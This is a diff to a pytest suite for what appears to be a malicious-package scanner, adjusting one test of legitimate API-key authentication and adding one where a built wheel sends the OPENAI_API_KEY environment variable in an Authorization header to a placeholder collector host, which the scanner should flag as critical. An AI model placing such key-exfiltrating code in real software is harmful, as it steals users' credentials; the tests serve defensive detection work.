@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from sandbox.models import Phase, Verdict
+from sandbox.models import Phase, Severity, Verdict
 from tests.conftest import run_cli
 from tests.fixtures.builders import Randomised, build_wheel, exfil_source, payload_fn
 
@@ -225,12 +225,14 @@ def test_default_profile_clean_when_a_called_client_authenticates_with_the_envir
     tmp_path: Path,
 ) -> None:
     # litellm's shape: a call of its API sends $OPENAI_API_KEY to the provider in the
-    # Authorization header. A planted secret leaves, but only as a client's login that
-    # our call asked for: LOW context, not PS010's proof
+    # Authorization header. A planted secret leaves, but only as a client's login to the
+    # endpoint our call handed it (``base_url``): LOW context, not PS010's proof. (Its
+    # own service's hosts, api.openai.com, are a unit test: fixtures use reserved names.)
     r = Randomised()
-    name, host, port, service = r.name("llm"), r.address(), r.port(), f"api.{r.name('provider')}.example"
-    header = repr(service) + ' + "\\r\\nAuthorization: Bearer " + os.environ.get("OPENAI_API_KEY", "")'
-    src = "import os, socket\n\ndef cancel_batch(batch_id):\n" + textwrap.indent(
+    name, host, port = r.name("llm"), r.address(), r.port()
+    key = 'os.environ["OPENAI_API_KEY"]'
+    header = 'urllib.parse.urlsplit(base_url).hostname + "\\r\\nAuthorization: Bearer " + ' + key
+    src = "import os, socket, urllib.parse\n\ndef cancel_batch(batch_id, base_url):\n" + textwrap.indent(
         _post(repr(host), str(port), header, '"{}"'), "    "
     )
     whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/batches.py": src})
@@ -238,3 +240,25 @@ def test_default_profile_clean_when_a_called_client_authenticates_with_the_envir
     assert report is not None and code == 0 and report.verdict is Verdict.CLEAN, report.verdict_reason
     found = [f for f in report.findings if f.rule_id == "PS010"]
     assert found and all(f.severity.value == "low" and "authentication header" in f.message for f in found)
+
+
+def test_default_profile_catches_a_call_that_sends_the_environment_key_in_a_header_elsewhere(
+    tmp_path: Path,
+) -> None:
+    # The same header to the payload's own collector: the key sent away, whatever header
+    # carries it (a login header is a login only to the key's own service)
+    r = Randomised()
+    name, host, port = r.name("llm"), r.address(), r.port()
+    collector = f"{r.name('collect')}.example"
+    header = repr(collector) + ' + "\\r\\nAuthorization: Bearer " + os.environ["OPENAI_API_KEY"]'
+    src = "import os, socket\n\ndef list_models(provider):\n" + textwrap.indent(
+        _post(repr(host), str(port), header, '"{}"'), "    "
+    )
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/models.py": src})
+    code, report = run_cli(tmp_path, str(whl), "--window", "1")
+    assert report is not None and code == 1 and report.verdict is Verdict.MALICIOUS, report.verdict_reason
+    found = [f for f in report.findings if f.rule_id == "PS010" and f.phase is Phase.EXECUTE]
+    assert found and found[0].severity is Severity.CRITICAL, [
+        (f.rule_id, f.severity) for f in report.findings
+    ]
+    assert any(collector in (e.detail or "") for e in found[0].evidence)
